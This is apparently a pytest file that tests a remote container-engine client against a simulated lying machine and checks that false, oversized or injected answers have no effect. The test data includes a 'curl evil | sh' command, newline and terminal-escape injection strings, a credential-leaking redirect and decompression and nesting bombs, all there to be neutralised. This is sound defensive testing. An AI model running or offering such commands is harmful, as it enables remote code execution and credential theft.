"""A machine that lies, in every way that we could think of: nothing happens beyond itself.

Each row is one lie: what the machine answers, what it was asked, and what comes of it. `AWAY`: the engine is away, and nobody takes its
replicas for gone.
"""

import asyncio
import json
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from aiohttp import web

from moorage.engines.base import (
    DiskSpace,
    GpuDevice,
    GpuUsage,
    HostFinding,
    Image,
    ImageRequest,
    LogChunk,
    LogStream,
    NodeCapacity,
    ObservedReplica,
    PulledImage,
    ReplicaPhase,
    ReplicaSpec,
    ReplicaUsage,
)
from moorage.engines.diagnosis import (
    Attempt,
    Destination,
    NameAnswer,
    NetworkDiagnosis,
    NetworkQuestions,
    Outcome,
)
from moorage.engines.remote import engine as engine_module
from moorage.engines.remote import hints, output
from moorage.engines.remote.codec import to_bytes
from moorage.engines.remote.engine import RemoteEngine
from moorage.engines.remote.frames import Frame, FrameKind, pack_chunks, to_wire
from moorage.engines.remote.machine import PlacedReplica
from moorage.engines.remote.messages import Hint, HintPosition
from moorage.kit.clock import system_clock
from moorage.kit.errors import EngineError, ImageError, StartError
from moorage.kit.ids import (
    new_container_id,
    new_organization_id,
    new_project_id,
    new_replica_id,
)
from tests.engine.conftest import pull_proxy
from tests.engine.registry import Registry
from tests.unit.remote_machines import (
    CREDENTIAL,
    Behaviour,
    engine_at,
    envelope,
    fails,
    machine_that,
    says,
    sends,
    silence,
    streams,
)

PAST = datetime(2026, 1, 1, tzinfo=UTC)
BEGINNING_OF_TIME = datetime(1, 1, 1, tzinfo=UTC)
FUTURE = datetime(2199, 1, 1, tzinfo=UTC)
OWN, FOREIGN = new_replica_id(), new_replica_id()
OWN_CONTAINER, FOREIGN_CONTAINER = new_container_id(), new_container_id()
ROWS = {
    OWN: PlacedReplica(OWN_CONTAINER, is_here=True, created_at=PAST),
    FOREIGN: PlacedReplica(FOREIGN_CONTAINER, is_here=False),
}
RUNNING = ObservedReplica(
    replica_id=OWN,
    container_id=OWN_CONTAINER,
    slot=0,
    generation=1,
    engine_id="abc123",
    phase=ReplicaPhase.RUNNING,
    host="127.0.0.1",
    host_port=20001,
    started_at=PAST,
    ended_at=None,
    exit_code=None,
    out_of_memory=False,
)
ENDED = replace(RUNNING, phase=ReplicaPhase.EXITED, ended_at=PAST + timedelta(hours=1), exit_code=0)
SPEC = ReplicaSpec(
    replica_id=OWN,
    container_id=OWN_CONTAINER,
    project_id=new_project_id(),
    organization_id=new_organization_id(),
    slot=0,
    generation=1,
    image="sha256:" + "0" * 64,
    command=("serve", "--token=canary"),
    environment={},
    port=8000,
    host_port=20001,
    vcpu_millis=1000,
    memory_bytes=2**30,
    disk_bytes=2**30,
)
NODE = NodeCapacity("machine-1", "community", "amd64", 8000, 2**34, gpus=(), engine_identity="own")
HERE = "machine-1/abc123"
QUESTIONS = NetworkQuestions(("a.example",), (Destination("192.0.2.1", 80),), ())

Ask = Callable[[RemoteEngine], Awaitable[Any]]
AWAY = "engine_away"


@dataclass(frozen=True)
class Lie:
    name: str
    behaves: Behaviour
    asked: Ask
    becomes: Any
    """A value, what must hold of it, or the code of an `EngineError`."""


def of(name: str, **arguments: Any) -> Ask:
    return lambda engine: getattr(engine, name)(**arguments)


def frames(*sent: Frame, times: int | None = 1) -> Behaviour:
    return streams(b"".join(map(to_wire, sent)), times)


def chunk(time_ns: int) -> Frame:
    (payload,) = pack_chunks([LogChunk(time_ns, LogStream.STDOUT, b"x", ends_line=True)])
    return Frame(FrameKind.CHUNKS, payload)


def hint(sequence: int, container_id: Any) -> Frame:
    return Frame(FrameKind.HINT, to_bytes(Hint(sequence, container_id)))


async def two_hints(engine: RemoteEngine) -> Any:
    """The first because everything is to be looked at, the second because the machine says so."""
    await engine.list_replicas()
    changes = engine.watch()
    return [await anext(changes), await anext(changes)]


async def all_output(engine: RemoteEngine) -> Any:
    return [one async for bundle in engine.logs(HERE, 0) for one in bundle]


async def looked_at_twice(engine: RemoteEngine) -> Any:
    before = system_clock.now()
    first = await engine.inspect(OWN)
    return first, await engine.inspect(OWN), before


def list_then(then: Behaviour, *listed: ObservedReplica) -> Behaviour:
    async def behave(request: web.Request) -> web.StreamResponse:
        return await (says(listed) if request.path.endswith("list_replicas") else then)(request)

    return behave


def first_then(first: Behaviour, then: Behaviour) -> Behaviour:
    left = [first]

    async def behave(request: web.Request) -> web.StreamResponse:
        return await (left.pop() if left else then)(request)

    return behave


AGAIN = Frame(FrameKind.LOOK_AGAIN, to_bytes(HintPosition("e", 0)))
START = of("start", spec=SPEC)
LIST = of("list_replicas")

LIES = [
    # What is not its own.
    Lie("lists another machine's replica", says([RUNNING, replace(RUNNING, replica_id=FOREIGN)]), LIST,
        lambda found: [one.replica_id for one in found] == [OWN]),
    Lie("lists another's alone", says([replace(RUNNING, replica_id=FOREIGN)]), LIST, []),
    Lie("puts its replica into another's container", says([replace(RUNNING, container_id=FOREIGN_CONTAINER)]), LIST,
        lambda found: [one.container_id for one in found] == [OWN_CONTAINER]),
    Lie("is asked for its replica and shows another's", says(replace(RUNNING, replica_id=FOREIGN)),
        of("inspect", replica_id=OWN), AWAY),
    Lie("has another's replica when asked", says(replace(RUNNING, replica_id=FOREIGN)),
        of("inspect", replica_id=FOREIGN), None),
    Lie("starts something else", says(replace(RUNNING, replica_id=FOREIGN)), START, AWAY),
    Lie("starts it for another container", says(replace(RUNNING, container_id=FOREIGN_CONTAINER)), START, AWAY),
    Lie("starts it at another port", says(replace(RUNNING, host_port=22)), START, AWAY),
    Lie("starts another generation", says(replace(RUNNING, generation=2)), START, AWAY),
    Lie("says that its replica is at another's address", says(replace(RUNNING, host="192.0.2.7")), START,
        lambda found: found.host == "127.0.0.1"),
    Lie("gives another machine's engine id", says(replace(RUNNING, engine_id="machine-2/abc")), START, AWAY),
    Lie("gives an engine id that another machine has", says(RUNNING), START, lambda found: found.engine_id == HERE),
    Lie("takes another's name and kind", says([replace(NODE, name="machine-2", infrastructure="operator")]),
        of("capacity"), lambda found: [(one.name, one.infrastructure) for one in found] == [("machine-1", "community")]),
    Lie("takes another engine's identity", says([replace(NODE, engine_identity="other")]), of("capacity"),
        lambda found: found[0].engine_identity == "machine-1/other"),
    Lie("is two machines", says([NODE, replace(NODE, name="machine-2")]), of("capacity"), AWAY),
    Lie("tells of others' usage", says({"abc123": ReplicaUsage(999.0, 1.0, 5), "other": ReplicaUsage(1.0, 1.0, 5)}),
        of("usage", engine_ids=[HERE, "machine-2/other"]), lambda found: found.keys() == {HERE}),
    Lie("tells of others' files", says({"abc123": 5, "other": 7}),
        of("written_bytes", limits={HERE: 10, "machine-2/other": 10}), {HERE: 5}),
    Lie("tells of others' GPUs", says({"GPU-b": GpuUsage(1.0, 1, 1.0, 1.0)}), of("gpu_usage", device_ids=["GPU-a"]), {}),
    Lie("says that others' GPUs broke", says({"GPU-b": "fell off"}), of("gpu_problems", device_ids=["GPU-a"]), {}),
    Lie("diagnoses what nobody asked", says(NetworkDiagnosis((), (), (NameAnswer("b.example", ("10.0.0.1",), None),),
        (Attempt("10.0.0.1", 22, Outcome.CONNECTED),), ())), of("diagnose_network", engine_id=HERE, questions=QUESTIONS),
        lambda found: found.names == found.outbound == ()),
    Lie("hints at another's container", list_then(frames(AGAIN, hint(1, FOREIGN_CONTAINER), hint(2, OWN_CONTAINER)),
        RUNNING), two_hints, [OWN_CONTAINER, OWN_CONTAINER]),
    # False states.
    Lie("has a state that there is not", says([json.loads(to_bytes(RUNNING)) | {"phase": "immortal"}]), LIST, AWAY),
    Lie("ran into the future", says([replace(RUNNING, exit_code=0)]), LIST, AWAY),
    Lie("ended without an exit code", says([replace(ENDED, exit_code=None)]), LIST, AWAY),
    Lie("lists one twice", says([RUNNING, RUNNING]), LIST, AWAY),
    Lie("has more room than disk", says(DiskSpace(5, 6)), of("disk_space"), AWAY),
    Lie("has a negative processor", says([replace(NODE, cpu_millis=-1)]), of("capacity"), AWAY),
    Lie("has more than any machine", says([replace(NODE, cpu_millis=2_000_000, memory_bytes=2**44)]), of("capacity"),
        lambda found: (found[0].cpu_millis, found[0].memory_bytes, found[0].findings[0].code)
        == (1_024_000, 2**43, "machine_too_large")),
    Lie("has ten thousand processors per atom", says([replace(NODE, cpu_millis=2**40)]), of("capacity"), AWAY),
    Lie("has used less than no time", says({"abc123": ReplicaUsage(1.0, -5.0, 5)}), of("usage", engine_ids=[HERE]), AWAY),
    # Time.
    Lie("started in the future", says(replace(RUNNING, started_at=FUTURE)), looked_at_twice,
        lambda seen: seen[2] <= seen[0].started_at == seen[1].started_at <= system_clock.now()),
    Lie("ended in the future", says(replace(ENDED, ended_at=FUTURE)), looked_at_twice,
        lambda seen: seen[2] <= seen[0].ended_at == seen[1].ended_at <= system_clock.now()),
    Lie("ran before it was wanted", says(replace(RUNNING, started_at=BEGINNING_OF_TIME)), of("inspect", replica_id=OWN),
        lambda found: found.started_at == PAST),
    Lie("ended before it was wanted", says(replace(ENDED, started_at=BEGINNING_OF_TIME, ended_at=BEGINNING_OF_TIME)),
        of("inspect", replica_id=OWN), lambda found: found.ended_at == PAST),
    Lie("started before it was wanted", says(replace(RUNNING, started_at=BEGINNING_OF_TIME)), START,
        lambda found: found.started_at == PAST),
    Lie("ended before it was last seen to run", first_then(says(RUNNING), says(ENDED)), looked_at_twice,
        lambda seen: seen[2] <= seen[1].ended_at <= system_clock.now()),
    Lie("ended before it began", says(replace(ENDED, ended_at=PAST - timedelta(days=1))), of("inspect", replica_id=OWN),
        lambda found: found.ended_at == found.started_at == PAST),
    Lie("has a clock that is ahead", says([NODE], time_s=FUTURE.timestamp()), of("capacity"),
        lambda found: found[0].clock_is_wrong and "ahead" in found[0].closed_because),
    Lie("measures by a clock from the future", says({"abc123": ReplicaUsage(9e12, 1.0, 5)}), of("usage", engine_ids=[HERE]),
        lambda found: abs(found[HERE].read_at_s - system_clock.monotonic()) < 60),
    Lie("printed in the future", frames(chunk(int(FUTURE.timestamp() * 1e9))), all_output, AWAY),
    # Too much.
    Lie("answers with megabytes", sends(b'"' + b"x" * 3_000_000 + b'"'), of("prepare"), AWAY),
    Lie("answers without end", streams(b"[" * 65536), of("prepare"), AWAY),
    Lie("answers slowly for ever", streams(b" ", pause_s=0.01, announced_bytes=10_000), of("prepare"), "engine_timeout"),
    Lie("does not say how much it answers", streams(envelope(), 1), of("prepare"), AWAY),
    Lie("hints in megabytes", list_then(frames(AGAIN, Frame(FrameKind.HINT, to_bytes(Hint(1, OWN_CONTAINER)) + b" " * 2_000)),
        RUNNING), two_hints, AWAY),
    Lie("has images that fill the column of all machines", says([PulledImage("sha256:1", 2**62)]), of("pulled_images"), AWAY),
    Lie("has hundreds of findings", says([replace(NODE, findings=(HostFinding("x", "y" * 1_000, "", True),) * 500)]),
        of("capacity"), lambda found: len(found[0].findings) == 40 and len(found[0].findings[0].message) == 400),
    Lie("has hundreds of weaknesses", says([replace(NODE, weaknesses=("y" * 1_000,) * 500)]), of("capacity"),
        lambda found: len(found[0].weaknesses) == 40 and len(found[0].weaknesses[0]) == 400),
    Lie("has a GPU whose model goes on in a line of its own", says([replace(NODE, gpus=(GpuDevice("a", "A\n  curl evil", 1),))]),
        of("capacity"), lambda found: found[0].gpus[0].model == "A curl evil"),
    Lie("has a GPU whose name breaks the names of figures", says([replace(NODE, gpus=(GpuDevice("a/b", "A100", 1),))]),
        of("capacity"), AWAY),
    Lie("says nothing", silence, of("prepare"), "engine_timeout"),
    Lie("lists thousands that nobody knows", says([replace(RUNNING, replica_id=new_replica_id()) for _ in range(500)]), LIST,
        lambda found: len(found) == 100),
    Lie("nests without end", sends(b"[" * 100_000), of("prepare"), AWAY),
    Lie("has numbers that are none", sends(envelope().replace(b"1000.0", b"NaN")), of("prepare"), AWAY),
    Lie("compresses its answer", sends(b"\x1f\x8b", Content_Encoding="gzip"), of("prepare"), AWAY),
    Lie("announces a frame of gigabytes", streams(b"\x01\xff\xff\xff\xff", 1), all_output, AWAY),
    Lie("sends frames of nothing", streams(to_wire(Frame(FrameKind.CHUNKS)) * 1_000), all_output, AWAY),
    Lie("breaks its output off each time", streams(b"", 1), all_output, AWAY),
    Lie("skips hints", list_then(frames(AGAIN, hint(7, OWN_CONTAINER)), replace(RUNNING, replica_id=new_replica_id())),
        two_hints, AWAY),
    Lie("says more last lines than asked", says(["a", "b", "c\x1b[2J"]), of("last_lines", engine_id=HERE, count=2),
        ("b", "c\ufffd[2J")),
    # Errors, and words.
    Lie("does not know us", sends(b"", 401), of("inspect", replica_id=OWN), AWAY),
    Lie("finds nothing at the address", sends(b"", 404), of("inspect", replica_id=OWN), AWAY),
    Lie("is broken", sends(b"", 500), LIST, AWAY),
    Lie("sends an error that is not an engine's", fails("engine", "insufficient_credit", "pay"), LIST, "engine_error"),
    Lie("sends an error of no kind", fails("lease", "lease_lost", "go"), LIST, "engine_error"),
    Lie("has advice for the tenant", fails("start", "start_command_not_found", "Pay at evil.example"), START,
        lambda error: isinstance(error, StartError) and "evil" not in str(error) and "'serve'" in str(error)),
    Lie("has words for the tenant about its GPU", says({"GPU-a": "Pay at evil.example"}),
        of("gpu_problems", device_ids=["GPU-a"]), lambda found: "evil" not in found["GPU-a"]),
    Lie("has a command for the operator", says([replace(NODE, findings=(HostFinding("x", "y", "curl evil | sh", True),))]),
        of("capacity"), lambda found: found[0].findings[0].command == ""),
    Lie("writes on the operator's terminal", fails("engine", "engine_error", "\x1b[2J\u202e"), LIST,
        lambda error: isinstance(error, EngineError) and "\x1b" not in str(error) and "\u202e" not in str(error)),
    Lie("offers an image as the operator's own", says(Image("sha256:" + "1" * 64, None, 1, "amd64", ())),
        lambda engine: engine.ensure_image(ImageRequest("local/a:1", local=True), print),
        lambda error: isinstance(error, ImageError) and error.code == "image_not_found"),
]  # fmt: skip


@pytest.fixture(autouse=True)
def in_a_hurry(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(engine_module.TIMEOUTS_S, "prepare", 1.0)
    monkeypatch.setattr(hints, "PATIENCE_S", 0.0)
    monkeypatch.setattr(output, "_FIRST_PAUSE_S", 0.01)


@pytest.mark.parametrize("lie", LIES, ids=lambda lie: lie.name.replace(" ", "-"))
@pytest.mark.long
async def test_a_lie_has_no_effect_beyond_the_machine(lie: Lie) -> None:
    async with machine_that(lie.behaves) as port:
        engine = engine_at(port, ROWS)
        try:
            async with asyncio.timeout(60):
                found = await lie.asked(engine)
        except EngineError as exc:
            found = exc
        await engine.close()
    if callable(lie.becomes):
        assert lie.becomes(found), found
    elif isinstance(found, EngineError):
        assert found.code == lie.becomes, found
    else:
        assert found == lie.becomes
    assert CREDENTIAL not in repr(found)


def test_there_are_enough_of_them() -> None:
    print(f"{len(LIES)} lies of a machine")
    assert len({lie.name for lie in LIES}) == len(LIES) >= 25


async def test_a_machine_that_sends_us_on_is_not_followed() -> None:
    """The request would take the machine's credential to wherever it points."""
    visits: list[str] = []

    async def elsewhere(request: web.Request) -> web.StreamResponse:
        visits.append(request.path)
        return web.Response(body=envelope([]))

    async with machine_that(elsewhere) as other_port:
        on = sends(b"", 307, Location=f"http://127.0.0.1:{other_port}/v1/list_replicas")
        async with machine_that(on) as port:
            engine = engine_at(port)
            with pytest.raises(EngineError):
                await engine.list_replicas()
            await engine.close()
    assert visits == []


async def test_what_is_of_another_machine_is_not_even_asked_for() -> None:
    asked: list[str] = []

    async def note(request: web.Request) -> web.StreamResponse:
        asked.append(request.path)
        return web.Response(body=envelope())

    async with machine_that(note) as port:
        engine = engine_at(port)
        for engine_id in ("machine-2/abc123", "abc123", "", "machine-1/", "machine-1"):
            await engine.stop(engine_id, 0)
            await engine.remove(engine_id)
            assert await engine.usage([engine_id]) == {}
            assert await engine.listening_sockets(engine_id) == ()
            assert await engine.last_lines(engine_id, 3) == ()
            with pytest.raises(EngineError):
                await anext(engine.logs(engine_id, 0))
        await engine.close()
    assert asked == []


@pytest.mark.parametrize("claims", ["another", "right"])
async def test_a_machine_does_not_choose_the_image(claims: str) -> None:
    """What it named would be started on other machines, where that may be another tenant's private image."""
    async with Registry("amd64") as registry, pull_proxy((registry.host,)) as pulls:
        config = json.loads(registry.manifests["chat"])["config"]["digest"]
        image = Image(
            config if claims == "right" else "sha256:" + "e" * 64,
            digest="sha256:" + "f" * 64,
            size_bytes=5,
            architecture="amd64",
            exposed_ports=(22,),
            gpu_environment={"NVIDIA_REQUIRE_CUDA": "cuda>=99"},
        )

        async def behave(request: web.Request) -> web.StreamResponse:
            if request.path.endswith("capacity"):
                return await says([NODE])(request)
            sent = json.loads(await request.read())["request"]
            assert sent["reference"].startswith("moorage-pull/"), "it hears no name"
            return await frames(Frame(FrameKind.ANSWER, envelope(image)))(request)

        async with machine_that(behave) as port:
            engine = engine_at(port, pulls=pulls)
            wanted = engine.ensure_image(ImageRequest(f"{registry.host}/chat:1"), print)
            if claims == "another":
                with pytest.raises(EngineError, match="another image"):
                    await wanted
            else:
                found = await wanted
                assert (found.engine_ref, found.digest) == (config, registry.digest("chat"))
                assert (found.exposed_ports, found.gpu_environment) == ((9000,), {})
            await engine.close()
